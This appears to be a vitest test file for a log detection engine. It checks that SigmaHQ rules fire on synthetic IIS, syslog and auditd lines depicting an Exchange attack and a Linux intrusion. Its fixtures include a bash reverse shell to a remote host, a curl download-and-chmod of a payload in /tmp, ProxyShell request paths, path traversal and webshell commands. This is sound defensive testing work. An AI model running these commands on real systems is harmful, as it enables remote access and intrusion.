/**
 * SigmaHQ's own rules over text logs, read in place from ../shared/corpora/sigma: the webserver rules over
 * an IIS W3C log of an Exchange attack, the Linux rules over syslog and auditd logs of an intrusion on a
 * Linux server. Each sample line says which rules it must raise (none for the benign ones), and the whole
 * Windows rule set is loaded too, to show that Windows rules stay silent on these events and Linux rules
 * silent on web logs.
 */
import { mkdtemp, rm, utimes, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { Detector } from '../../src/detect/detector.js';
import { defaultMapping } from '../../src/mapping/mapping.js';
import { loadRules } from '../../src/sigma/load-rules.js';
import { openSource } from '../../src/sources/registry.js';
import { collectingOptions } from '../../src/sources/testing.js';
import { sharedPath } from '../helpers/shared.js';

const corpus = sharedPath('corpora/sigma');

// Rule ids, by the title they have in SigmaHQ.
const PROXYSHELL_PATTERN = '23eee45e-933b-49f9-ae1b-df706d2d52ef';
const PROXYSHELL_SUCCESS = '992be1eb-e5da-437e-9a54-6d13b57bb4d8';
const PROXYLOGON_RESET_VDIR = 'effee1f6-a932-4297-a81f-acb44064fa3a';
const PATH_TRAVERSAL = '7745c2ea-24a5-4290-b680-04359cb84b35';
const RECON_USER_AGENTS = '19aa4f58-94ca-45ff-bc34-92e533c0994a';
const IIS_SHORTNAME_SCAN = '7cb02516-6d95-4ffc-8eee-162075e111ac';
const REGEORG = '2ea44a60-cfda-11ea-87d0-0242ac130003';
const WEBSHELL_KEYWORDS = '7ff9db12-1b94-4a79-ba68-a2402c5d6729';
const PRIVILEGED_USER = '0ac15ec3-d24f-4246-aa2a-3077bb1cf90e';
const REVERSE_SHELL = '738d9bcf-6999-4fdb-b4ac-3033037db8ab';
const DEV_TCP = '6cc5fceb-9a71-4c23-aeeb-963abe0b279c';
const SSHD_SUSPICIOUS = 'e76b413a-83d0-4b94-8e4c-85db4a5b8bdc';
const SECURITY_TOOLS_STOPPED = '49f5dfc1-f92e-4d34-96fa-feba3f6acf36';
const CURL_EXEC_TMP = 'a2d9e2f3-0f43-4c7a-bcd9-9acfc0d723aa';
const SHELL_COMMANDS = '2aa1440c-9ae9-4d92-84a7-a9e5f5e31695';
const SCRIPT_IN_SUSPICIOUS_DIR = '30bcce26-51c5-49f2-99c8-7b59e3af36c7';
const WEB_RCE = 'c0d3734d-330f-4a03-aae2-65dacc6a8222';
const USER_DISCOVERY = '9a0d8ca0-2385-4020-b6c6-cb6153ca56f3';
const LD_SO_PRELOAD_PATH = '4b3cb710-5e83-4715-8c45-8b2b5b3e5751';
const LD_SO_PRELOAD_KEYWORD = '7e3c4651-c347-40c4-b1d4-d48590fdf684';
const FIREWALL_STOPPED = '53059bc0-1472-438b-956a-7508a94a91f0';
const SUSPICIOUS_COMMANDS = '1543ae20-cbdf-4ec1-8d12-7664d667a825';
const PERMISSIONS_CHANGE = '74c01ace-0152-4094-8ae2-6fd776dd43e5';

const IIS_FIELDS =
  'date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken';

/** [line, rule ids it must raise]; the file is these lines under an IIS header. */
const W3C_LINES: [string, string[]][] = [
  [
    '2021-08-13 04:51:41 10.20.0.15 POST /autodiscover/autodiscover.json @evil.corp/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz&Email=autodiscover/autodiscover.json%3F@evil.corp 443 - 203.0.113.50 python-requests/2.26.0 - 200 0 0 107',
    [PROXYSHELL_SUCCESS],
  ],
  [
    '2021-08-13 04:51:40 10.20.0.15 GET /autodiscover/autodiscover.json @evil.corp/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.corp 443 - 203.0.113.50 python-requests/2.26.0 - 401 0 0 12',
    [PROXYSHELL_PATTERN],
  ],
  [
    '2021-03-03 02:12:20 10.20.0.15 POST /ecp/DDI/DDIService.svc/SetObject schema=ResetOABVirtualDirectory&msExchEcpCanary=ZHYmA9bW9UeUz6hH1wWqlA0iVhGyAtkIbs2Q 444 ELECTIONS\\EXCH01$ 10.20.0.15 ExchangeServicesClient/0.0.0.0 - 200 0 0 61',
    [PROXYLOGON_RESET_VDIR],
  ],
  [
    '2021-08-13 06:00:01 10.20.0.15 GET /owa/auth/x.aspx file=../../../etc/passwd 443 - 198.51.100.7 curl/7.79.1 - 404 0 2 3',
    [PATH_TRAVERSAL],
  ],
  [
    '2021-08-13 06:00:02 10.20.0.15 GET / - 443 - 198.51.100.7 Mozilla/5.0+(compatible;+Nmap+Scripting+Engine;+https://nmap.org/book/nse.html) - 200 0 0 3',
    [RECON_USER_AGENTS],
  ],
  [
    '2021-08-13 06:00:03 10.20.0.15 GET /aspnet_client/ *~1*/a.aspx 443 - 198.51.100.7 - - 200 0 0 2',
    [IIS_SHORTNAME_SCAN],
  ],
  [
    '2021-08-14 01:02:03 10.20.0.15 POST /aspnet_client/tunnel.aspx cmd=connect&target=10.20.0.5&port=3389 443 - 203.0.113.50 - - 200 0 0 5',
    [REGEORG],
  ],
  [
    '2021-08-14 01:02:09 10.20.0.15 GET /aspnet_client/supp0rt.aspx c=cmd+/c+whoami 443 - 203.0.113.50 - - 200 0 0 5',
    [WEBSHELL_KEYWORDS],
  ],
  // Benign: an Outlook client, an OWA logon, an admin's ECP call.
  [
    '2026-11-24 08:01:15 10.20.0.15 GET /autodiscover/autodiscover.json/v1.0/returning.officer@elections.gov Protocol=EWS&RedirectCount=1 443 - 192.0.2.44 Microsoft+Office/16.0+(Windows+NT+10.0;+Microsoft+Outlook+16.0.14326;+Pro) - 200 0 0 15',
    [],
  ],
  [
    '2026-11-24 07:55:08 10.20.0.15 GET /owa/auth/logon.aspx url=https%3a%2f%2fmail.elections.gov%2fowa%2f&reason=0 443 - 192.0.2.44 Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64) https://mail.elections.gov/owa/ 200 0 0 31',
    [],
  ],
  [
    '2026-11-24 10:03:42 10.20.0.15 POST /ecp/DDI/DDIService.svc/GetList schema=MailboxService&msExchEcpCanary=kVgk3w1bQ0aBGa1t7xKq9 444 ELECTIONS\\mailadmin 10.30.1.5 Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64) - 200 0 0 44',
    [],
  ],
];

const SYSLOG_LINES: [string, string[]][] = [
  [
    'Mar  7 09:15:02 register01 sshd[812]: Failed password for invalid user admin from 203.0.113.50 port 51122 ssh2',
    [],
  ],
  ['Mar  7 09:15:04 register01 sshd[812]: Corrupted MAC on input. [preauth]', [SSHD_SUSPICIOUS]],
  // The same words from another program: not an sshd log line.
  ['Mar  7 09:15:04 register01 myapp[99]: test fixture says: Corrupted MAC on input', []],
  [
    'Mar  7 09:16:02 register01 useradd[2350]: new user: name=sysupd, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1',
    [PRIVILEGED_USER],
  ],
  [
    "Mar  7 09:17:15 register01 CRON[2402]: (root) CMD (/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.50/4444 0>&1')",
    [REVERSE_SHELL, DEV_TCP],
  ],
  [
    'Mar  7 09:19:30 register01 systemd[1]: Stopping firewalld - dynamic firewall daemon...',
    [SECURITY_TOOLS_STOPPED],
  ],
  [
    'Mar  7 09:18:01 register01 sysmon: <Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2024-03-07T09:18:01.102333000Z"/><EventRecordID>4411</EventRecordID><Correlation/><Execution ProcessID="812" ThreadID="812"/><Channel>Linux-Sysmon/Operational</Channel><Computer>register01</Computer><Security UserId="0"/></System><EventData><Data Name="RuleName">-</Data><Data Name="ProcessId">2390</Data><Data Name="Image">/usr/bin/dash</Data><Data Name="CommandLine">sh -c /usr/bin/curl -s http://203.0.113.50/x -o /tmp/.x; chmod +x /tmp/.x</Data><Data Name="CurrentDirectory">/root</Data><Data Name="User">root</Data><Data Name="ParentImage">/usr/sbin/cron</Data><Data Name="ParentCommandLine">/usr/sbin/CRON -f</Data></EventData></Event>',
    // A process creation (EventID 1) rule, plus the shell keyword rule that any Linux log meets.
    [CURL_EXEC_TMP, SCRIPT_IN_SUSPICIOUS_DIR, SHELL_COMMANDS],
  ],
  [
    'Mar  7 10:00:01 register01 CRON[3001]: (root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)',
    [],
  ],
  [
    'Mar  7 10:05:12 register01 sudo: registrar : TTY=pts/0 ; PWD=/home/registrar ; USER=root ; COMMAND=/usr/bin/systemctl status register-web',
    [],
  ],
];

const hex = (text: string): string => Buffer.from(text).toString('hex').toUpperCase();

const AUDIT_LINES: [string, string[]][] = [
  [
    'type=SYSCALL msg=audit(1709802902.113:24001): arch=c000003e syscall=59 success=yes exit=0 a0=55d1 a1=55d2 a2=55d3 a3=0 items=2 ppid=1422 pid=2331 auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295 comm="sh" exe="/usr/bin/dash" key=(null)',
    [WEB_RCE],
  ],
  [`type=EXECVE msg=audit(1709802902.113:24001): argc=3 a0="sh" a1="-c" a2=${hex('id; uname -a')}`, []],
  ['type=EXECVE msg=audit(1709802902.200:24002): argc=1 a0="whoami"', [USER_DISCOVERY]],
  [
    'type=EXECVE msg=audit(1709802903.000:24003): argc=3 a0="chmod" a1="777" a2="/tmp/.x"',
    [PERMISSIONS_CHANGE, SUSPICIOUS_COMMANDS],
  ],
  [
    'type=PATH msg=audit(1709802904.000:24004): item=1 name="/etc/ld.so.preload" inode=131499 dev=fd:00 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=CREATE',
    [LD_SO_PRELOAD_PATH, LD_SO_PRELOAD_KEYWORD],
  ],
  [
    'type=SERVICE_STOP msg=audit(1709802905.000:24005): pid=1 uid=0 auid=4294967295 ses=4294967295 msg=\'unit=firewalld comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success\'',
    [FIREWALL_STOPPED],
  ],
  [
    'type=SYSCALL msg=audit(1709802906.000:24006): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=1988 pid=2290 auid=1000 uid=1000 gid=1000 euid=1000 comm="ls" exe="/usr/bin/ls" key="exec"',
    [],
  ],
  ['type=EXECVE msg=audit(1709802906.000:24006): argc=2 a0="ls" a1="-la"', []],
];

let detector: Detector;
let dir: string;

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'bg-sigmahq-text-'));
  if (!corpus.available) return;
  const loaded = await loadRules([
    join(corpus.path, 'rules', 'web'),
    join(corpus.path, 'rules', 'linux'),
    join(corpus.path, 'rules', 'windows'),
    join(corpus.path, 'rules-emerging-threats', '2021', 'Exploits'),
  ]);
  detector = new Detector({
    sources: loaded.sources,
    mapping: defaultMapping(),
    placeholders: [],
    minLevel: 'informational',
  });
}, 120_000);

afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

/** The rule ids each record raises, through the real source and detector. */
async function hits(name: string, text: string): Promise<Map<number, string[]>> {
  const path = join(dir, name);
  await writeFile(path, text);
  const time = new Date(Date.UTC(2024, 2, 8));
  await utimes(path, time, time);
  const { options, issues } = collectingOptions();
  const byLine = new Map<number, string[]>();
  for await (const batch of openSource(path, options)) {
    const result = detector.processBatch(batch);
    issues.push(...result.issues);
    for (const alert of result.alerts) {
      const line = alert.source.line!;
      byLine.set(line, [...(byLine.get(line) ?? []), alert.rule.id]);
    }
  }
  expect(issues).toEqual([]);
  return byLine;
}

function expectHits(byLine: Map<number, string[]>, lines: [string, string[]][], firstLine: number): void {
  const actual = lines.map((_, i) => [...(byLine.get(firstLine + i) ?? [])].sort());
  const expected = lines.map(([, ids]) => [...ids].sort());
  expect(actual).toEqual(expected);
}

describe('SigmaHQ rules over text logs', () => {
  test('webserver rules over an IIS log of an Exchange attack', async (ctx) => {
    if (!corpus.available) ctx.skip(corpus.reason);
    const header = [
      '#Software: Microsoft Internet Information Services 10.0',
      '#Version: 1.0',
      `#Fields: ${IIS_FIELDS}`,
    ];
    const text = [...header, ...W3C_LINES.map(([line]) => line), ''].join('\r\n');
    expectHits(await hits('u_ex210813.log', text), W3C_LINES, header.length + 1);
  });

  test('Linux rules over syslog, Sysmon for Linux included', async (ctx) => {
    if (!corpus.available) ctx.skip(corpus.reason);
    const text = [...SYSLOG_LINES.map(([line]) => line), ''].join('\n');
    expectHits(await hits('auth.log', text), SYSLOG_LINES, 1);
  });

  test('Linux auditd rules over audit records', async (ctx) => {
    if (!corpus.available) ctx.skip(corpus.reason);
    const text = [...AUDIT_LINES.map(([line]) => line), ''].join('\n');
    expectHits(await hits('audit.log', text), AUDIT_LINES, 1);
  });
});
